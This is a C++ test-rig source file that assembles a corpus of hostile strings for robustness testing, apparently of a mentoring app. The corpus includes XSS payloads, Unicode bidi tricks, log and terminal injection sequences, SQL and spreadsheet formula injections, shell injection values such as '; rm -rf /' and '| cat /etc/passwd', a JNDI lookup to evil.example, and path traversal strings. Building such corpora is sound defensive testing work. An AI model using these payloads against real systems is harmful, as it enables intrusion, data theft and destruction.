#include "tests/rigs/hostile/corpus.hpp"

#include <set>

namespace mentorsync::rigs {
namespace {

const char* const kMarkup[] = {"<script>alert(1)</script>",
                               "<img src=x onerror=alert(1)>",
                               "\"><svg onload=alert(1)>",
                               "'><iframe src=javascript:alert(1)>",
                               "<a href=\"javascript:alert(1)\">x</a>",
                               "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
                               "<style>*{display:none}</style>",
                               "<link rel=stylesheet href=//evil.example>",
                               "<meta http-equiv=refresh content=0;url=//x>",
                               "<base href=//evil.example/>",
                               "</p></div></body></html>",
                               "</textarea><script>x()</script>",
                               "</title><script>x()</script>",
                               "<!--",
                               "-->",
                               "<![CDATA[<b>]]>",
                               "<?xml version='1.0'?>",
                               "<form action=//evil.example><input name=a>",
                               "<math><mtext></mtext></math>",
                               "<object data=//evil.example>",
                               "<embed src=//evil.example>",
                               "<video src=x onerror=x()>",
                               "<body onload=x()>",
                               "<div style=\"background:url(javascript:x())\">",
                               "<b>bold</b>",
                               "<p>",
                               "<",
                               ">",
                               "&",
                               "&lt;script&gt;",
                               "&#60;script&#62;",
                               "&#x3c;script&#x3e;",
                               "&amp;lt;b&amp;gt;",
                               "&nbsp;",
                               "&",
                               "<<script>",
                               "<scr<script>ipt>",
                               "<SCRIPT SRC=//x></SCRIPT>",
                               "<a/onclick=x()>",
                               "\" onmouseover=\"x()",
                               "' onfocus='x()' autofocus='",
                               "`><script>x()</script>",
                               "<svg><script>x()</script></svg>",
                               "<details open ontoggle=x()>",
                               "<marquee onstart=x()>"};

const char* const kHidden[] = {
    "\xE2\x80\xAE"
    "gpj.exe",
    "\xE2\x80\xAD"
    "abc",
    "\xE2\x80\xAA",
    "\xE2\x80\xAB"
    "x",
    "\xE2\x80\xAC",
    "\xE2\x81\xA6"
    "x\xE2\x81\xA9",
    "\xE2\x81\xA7",
    "\xE2\x81\xA8",
    "\xE2\x80\x8B",
    "a\xE2\x80\x8C"
    "b",
    "a\xE2\x80\x8D"
    "b",
    "\xE2\x80\x8E",
    "\xE2\x80\x8F",
    "\xD8\x9C",
    "\xEF\xBB\xBF",
    "\xE2\x81\xA0",
    "\xC2\xAD",
    "\xE2\x80\xA8"
    "INJECTED a line separator",
    "\xE2\x80\xA9"
    "INJECTED a paragraph",
    "\xC2\x85"
    "INJECTED a next line",
    "\xC2\x9B"
    "31m",
    "\xEF\xBF\xBD",
    "\xEF\xBF\xBF",
    "\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA9",
    "\xF3\xA0\x80\x81\xF3\xA0\x81\x81",
    "Z\xCD\x91\xCD\xAB\xCD\x8D\xCD\x94"
    "algo",
    "\xD0\xB0\xD1\x80\xD1\x80\xD3\x8F\xD0\xB5",
    "\xE0\xA4\xA8\xE0\xA4\xAE",
    "\xD7\xA9\xD7\x9C\xD7\x95\xD7\x9D",
    "\xE1\xA0\x8E",
    "\xE3\x85\xA4"};

const char* const kLines[] = {"\nINJECTED level=error",
                              "\r\nINJECTED: header",
                              "\rINJECTED",
                              "\n\nINJECTED",
                              "a\nINJECTED b",
                              "\x1b[2J\x1b[1;1HINJECTED",
                              "\x1b]0;title\x07",
                              "\x1b[31mred\x1b[0m",
                              "\x1b[8m hidden",
                              "\x1bP1;1|x\x1b\\",
                              "\x07",
                              "\x08\x08\x08",
                              "\x7f\x7f",
                              "\x0b"
                              "INJECTED",
                              "\x0c"
                              "INJECTED",
                              "\x01\x02\x03",
                              "\x1c\x1d\x1e\x1f",
                              "\t\t\t",
                              "a\tb",
                              "\x1a",
                              "<3>INJECTED kernel",
                              "\n<0>INJECTED emergency",
                              "\nevent=INJECTED",
                              "\n# INJECTED comment",
                              "\n{\"INJECTED\":1}",
                              "%0d%0aINJECTED",
                              "\\nINJECTED",
                              "\\u000aINJECTED",
                              "\xE5\x98\x8A\xE5\x98\x8DINJECTED"};

const char* const kFormats[] = {"%n%n%n%n",     "%s%s%s%s",
                                "%x%x",         "%99999999d",
                                "%1$*2$n",      "{0}",
                                "{}",           "${jndi:ldap://evil.example/a}",
                                "$(id)",        "`id`",
                                "; rm -rf /",   "| cat /etc/passwd",
                                "&& id",        "$HOME",
                                "${IFS}",       "!!",
                                "~root",        "{{7*7}}",
                                "{{{x}}}",      "{{#a}}{{/a}}",
                                "{{>partial}}", "{{=<% %>=}}",
                                "{% raw %}",    "<%= 7*7 %>",
                                "#{7*7}",       "[[x]]",
                                "{{!comment",   "{{/person}}",
                                "{{^x}}",       "{{&mentor.name}}",
                                "}}{{"};

const char* const kQueries[] = {"' OR 1=1 --",
                                "'; DROP TABLE outbox; --",
                                "\" OR \"\"=\"",
                                "1; ATTACH DATABASE '/tmp/x' AS x",
                                "%",
                                "_",
                                "%_%",
                                "\\",
                                "''",
                                "x' UNION SELECT * FROM outbox --",
                                "$1",
                                "?1",
                                ":a",
                                "@a",
                                "NULL",
                                "null",
                                "undefined",
                                "NaN",
                                "Infinity",
                                "true",
                                "0x0",
                                "1e999",
                                "-0",
                                "00012",
                                "9007199254740993",
                                "=1+1",
                                "=cmd|' /C calc'!A0",
                                "+1+1",
                                "-1+1",
                                "@SUM(A1)",
                                "\t=1",
                                "=HYPERLINK(\"//x\")",
                                "DDE(\"x\")"};

const char* const kPaths[] = {"../1",
                              "../../etc/passwd",
                              "..%2f..%2f",
                              "1;2",
                              "1/2",
                              "-1",
                              "1?x=1",
                              "1#x",
                              "//evil.example/",
                              "\\\\evil\\share",
                              "file:///etc/passwd",
                              ".",
                              "..",
                              "/",
                              "con",
                              "a/../../b",
                              "%2e%2e/",
                              "1 2",
                              "",
                              " ",
                              "  x  "};

std::string repeated(const std::string& part, std::size_t times) {
    std::string text;
    for (std::size_t i = 0; i < times; ++i) text += part;
    return text;
}

std::string character(char32_t c) {
    if (c < 0x80) return {static_cast<char>(c)};
    std::string text;
    if (c < 0x800) {
        text += static_cast<char>(0xC0U | (c >> 6U));
    } else {
        text += static_cast<char>(0xE0U | (c >> 12U));
        text += static_cast<char>(0x80U | ((c >> 6U) & 0x3FU));
    }
    text += static_cast<char>(0x80U | (c & 0x3FU));
    return text;
}

}  // namespace

std::vector<std::string> hostile_strings() {
    std::vector<std::string> all;
    std::set<std::string> seen;
    const auto add = [&](const std::string& text) {
        if (!text.empty() && seen.insert(text).second) all.push_back(text);
    };
    const auto add_all = [&](const auto& parts) {
        for (const char* const part : parts) {
            add(part);
            add(std::string("Eero ") + part);
            add(std::string(part) + " Niinikoski");
        }
    };
    add_all(kMarkup);
    add_all(kHidden);
    add_all(kLines);
    add_all(kFormats);
    add_all(kQueries);
    add_all(kPaths);
    for (char32_t c = 1; c < 0x20; ++c) add("a" + character(c) + "b");
    for (char32_t c = 0x7F; c < 0xA0; ++c) add("a" + character(c) + "b");
    for (char32_t c = 0x2028; c < 0x2030; ++c) add("a" + character(c) + "b");
    for (char32_t c = 0x2060; c < 0x2070; ++c) add("a" + character(c) + "b");
    add(repeated("a", 65'535));
    add(repeated("\xF0\x9F\x98\x80", 16'385));
    add(repeated("<b>", 30'000));
    add(repeated("&", 65'537));
    add(repeated("\n", 10'000));
    add(repeated("e\xCC\x81", 40'000));
    add(repeated("INJECTED\n", 1U << 17U).substr(0, 1U << 20U));
    return all;
}

std::vector<std::string> hostile_json() {
    return {"a\\u0000b",
            "\\u0000",
            "a\\ud800b",
            "\\udc00\\ud800",
            "\\ud83d",
            "a\xff"
            "b",
            "\xc0\xaf",
            "\xe0\x80\xaf",
            "\xf0\x80\x80\xaf",
            "\xed\xa0\x80",
            "\xf4\x90\x80\x80",
            "\xc3",
            "\xe2\x80",
            "\x80",
            "\xfe\xfe\xff\xff",
            "\n",
            "\x01",
            "\\x41",
            "\\u12"};
}

}  // namespace mentorsync::rigs
